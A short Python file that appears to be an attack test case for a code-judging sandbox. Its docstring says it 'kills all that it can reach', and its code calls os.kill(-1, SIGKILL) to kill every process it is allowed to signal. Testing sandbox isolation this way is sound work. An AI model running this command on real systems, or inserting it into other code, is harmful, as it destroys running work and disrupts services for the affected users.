"""Kills all that it can reach.

Attack: 5
Behind: solution.py
Keeps: none
Status: crashed or ok
Needs: kill
"""

import os
import signal

os.kill(-1, signal.SIGKILL)
os._exit(0)
